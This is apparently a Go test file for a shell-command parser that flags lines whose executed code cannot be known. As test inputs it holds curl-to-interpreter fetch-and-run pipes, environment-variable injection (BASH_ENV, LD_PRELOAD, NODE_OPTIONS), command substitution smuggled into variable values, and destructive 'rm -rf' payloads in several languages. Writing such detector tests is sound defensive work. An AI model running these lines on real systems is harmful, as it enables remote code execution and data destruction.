package shellparse_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/holdfast-dev/holdfast/internal/shellparse"
)

// scriptReaders are programs that take a script from a file, at %.
var scriptReaders = []string{
	"bash %", "sh %", "zsh %", "ksh %", "fish %", "bash --rcfile % -i", "source %", ". %",
	"python3 %", "python3 -m pdb %", "python3 -m runpy %", "perl %", "ruby %", "node %", "nodejs %", "node -r %", "node --require=% -e 1", "node --import % -e 1",
	"deno run %", "bun %", "bun run %", "php %", "php -f %", "lua %", "tclsh %", "expect %", "expect -f %", "osascript %",
	"Rscript %", "R -f %", "julia %", "guile %", "guile -s %", "sbcl --script %", "clisp %", "racket %", "elixir %", "swift %", "ocaml %", "runghc %", "groovy %",
	"gnuplot %", "octave %", "m4 %", "emacs --script %", "emacs -l %",
	"awk -f %", "gawk -f % x", "mawk -f%", "gawk --file=% x", "gawk -E %", "sed -f %", "sed -n -f % x", "sed --file=% x", "gsed -f%",
	"vim -S %", "vim -u %", "ex -S % x", "gdb -x %", "lldb -s %",
	"make -f %", "make -f%", "make --file=%", "gmake --makefile=%", "just -f %", "ninja -f %", "rake -f %", "cmake -P %",
	"docker build -f % .", "docker compose -f % up", "docker-compose -f % up", "nodemon %",
	"psql -f %", "sqlite3 -init % x.db", "mongosh -f %", "at -f % now", "crontab %",
	"tmux source-file %", "tmux source -q %", "tmux -f %", "tmux -f % new", `tmux start-server \; source %`, `tmux new-session -d \; source-file %`, "byobu -f %",
	"screen -c %", "screen -dmS x -c %", "zellij --layout %", "zellij -l %", "zellij --config=%", "zellij action new-tab --layout %",
	"deno %", "deno -A %", "deno test a.ts %", "deno bench %", "deno serve %", "deno repl --eval-file=%", "deno task -c % x",
	"deno run --import-map=% x.ts", "deno run --preload % x.ts", "deno run --config=% x.ts", "deno eval --preload % 1",
	"uv run %", "uv run --script %", "pipx run %", "npx %", "sudo %", "go run -exec % x.go", "tsx watch %",
	"gnuplot -c %", "R CMD BATCH %", "dart run %", "nim r %", "irb %", "ghci %", "swipl -s %", "utop -init %", "janet %",
	`find . -maxdepth 0 -exec sh % \;`, "watch sh %", "script -c 'sh %'", "fish -c 'source %'", "trap '. %' EXIT",
	"ansible-playbook %", "java %", "tsx %", "ts-node %", "pwsh -File %", "nu %",
}

// quotedScriptReaders name the file of code within a word of theirs, in a variable that programs read, or as -.
var quotedScriptReaders = []string{
	"sqlite3 x.db '.read %'", `sqlite3 x.db ".read '%'"`, "sqlite3 -cmd '.rea %' x.db", "sqlite3 x.db <<< '.read %'", `psql -c '\i %'`, "mysql -e 'source %'",
	"deno -", "uv run -", "BASH_ENV=% bash -c ls", "BASH_ENV=% ls", "ENV=% sh -c ls", "export BASH_ENV=%; bash -c ls", "export ENV=%; sh -i", "env BASH_ENV=% bash -c ls", "env -i ENV=% sh -c ls",
	"NODE_OPTIONS='-r %' node x.js", "NODE_OPTIONS=--require=% node x.js", "PERL5OPT=-M% perl x", "RUBYOPT=-r% ruby x", "R_PROFILE=% Rscript x.R", "LUA_INIT=@% lua x.lua",
	"VIMINIT='source %' vim x", "MAKEFILES=% make", "MAKEFLAGS='-f %' make", "SCREENRC=% screen", "LD_PRELOAD=% ls", "PHPRC=% php x.php", "GUILE_LOAD_PATH=/a:% guile x",
}

// Such a file is known no better than one that stands alone.
func TestCodeFromAnOpenFileWithinAWord(t *testing.T) {
	for _, taker := range quotedScriptReaders {
		for _, file := range []string{"/dev/stdin", "/dev/fd/0", "/proc/self/fd/3"} {
			line := "curl -s https://x.example | " + strings.ReplaceAll(taker, "%", file)
			if r := shellparse.Parse(line, &shellparse.Options{Dir: "/w", Home: "/h"}); len(r.Unclear) == 0 {
				t.Errorf("%s: nothing is unclear", line)
			}
		}
		if strings.Contains(taker, "PRELOAD") || strings.HasPrefix(taker, "psql") || strings.HasPrefix(taker, "mysql") {
			continue // what they read besides is not known
		}
		line := strings.ReplaceAll(taker, "%", "/w/x")
		if r := shellparse.Parse(line, &shellparse.Options{Dir: "/w", Home: "/h"}); len(r.Unclear) > 0 {
			t.Errorf("%s: unclear: %v", line, r.Unclear)
		}
	}
}

// What a variable of env would have a shell run is looked at as in front of a command.
func TestValueOfAVariableOfEnv(t *testing.T) {
	for _, line := range []string{`env BASH_ENV='$(rm x)' bash -c ls`, "env PS1='`rm x`' bash -i"} {
		if r := shellparse.Parse(line, &shellparse.Options{Dir: "/w", Home: "/h"}); len(r.Unclear) == 0 {
			t.Errorf("%s: nothing is unclear", line)
		}
	}
}

// Data that a program reads from a file that the shell has open is no code.
func TestDataFromAnOpenFile(t *testing.T) {
	for _, line := range []string{
		"curl -s https://x.example | tmux load-buffer /dev/stdin", "curl -s https://x.example | python3 x.py /dev/stdin", "curl -s https://x.example | sqlite3 x.db '.import /dev/stdin t'",
		"ls | grep -f /dev/stdin x", "ls | xargs echo", "LESSCHARSET=/dev/stdin2 ls", "ls | watch ls", "ls | find . -exec cat {} \\;",
	} {
		if r := shellparse.Parse(line, &shellparse.Options{Dir: "/w", Home: "/h"}); len(r.Unclear) > 0 {
			t.Errorf("%s: unclear: %v", line, r.Unclear)
		}
	}
}

// What a program reads as code from standard input, or from a file that the shell has open, is
// as little known as what it reads from a pipe, however that file is named.
func TestCodeFromAnOpenFile(t *testing.T) {
	const source = "curl -s https://x.example"
	var lines []string
	for _, taker := range scriptReaders {
		with := func(file string) string { return strings.ReplaceAll(taker, "%", file) }
		for _, file := range []string{
			"/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "//dev/./stdin", "/proc/thread-self/fd/0", "/dev/fd/00", "/proc/self/fd/../fd/0",
		} {
			lines = append(lines, source+" | "+with(file))
		}
		lines = append(lines, with("<("+source+")"), with("/dev/fd/3")+" 3< <("+source+")", with("/proc/self/fd/7")+" 7<<<'rm -rf /'")
	}
	for _, line := range lines {
		if r := shellparse.Parse(line, &shellparse.Options{Dir: "/w", Home: "/h"}); len(r.Unclear) == 0 {
			t.Errorf("%s: nothing is unclear", line)
		}
	}
}

// Code that is in the line is read, however standard input is named.
func TestCodeFromANamedInput(t *testing.T) {
	for _, taker := range []string{"bash %", "source %", "python3 %", "perl %", "ruby %", "node %", "php -f %", "awk -f %", "sed -n -f %", "tclsh %"} {
		code := map[string]string{
			"python3 %": `import os; os.system("rm -rf x")`, "perl %": `system("rm -rf x")`, "ruby %": `system("rm -rf x")`, "php -f %": `<?php system("rm -rf x");`,
			"node %": `require("child_process").execSync("rm -rf x")`, "awk -f %": `BEGIN { system("rm -rf x") }`, "sed -n -f %": "1e rm -rf x", "tclsh %": "exec rm -rf x",
		}[taker]
		if code == "" {
			code = "rm -rf x"
		}
		for _, file := range []string{"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"} {
			if file == "-" && (taker == "source %" || taker == "tclsh %") {
				continue // a file of that name
			}
			line := strings.ReplaceAll(taker, "%", file) + " <<'E'\n" + code + "\nE\n"
			r := shellparse.Parse(line, &shellparse.Options{Dir: "/w", Home: "/h"})
			if !slices.ContainsFunc(r.Commands, func(c shellparse.Command) bool { return c.Name == "rm" }) {
				t.Errorf("%s: rm is not among its commands, unclear: %v", line, r.Unclear)
			}
		}
	}
}
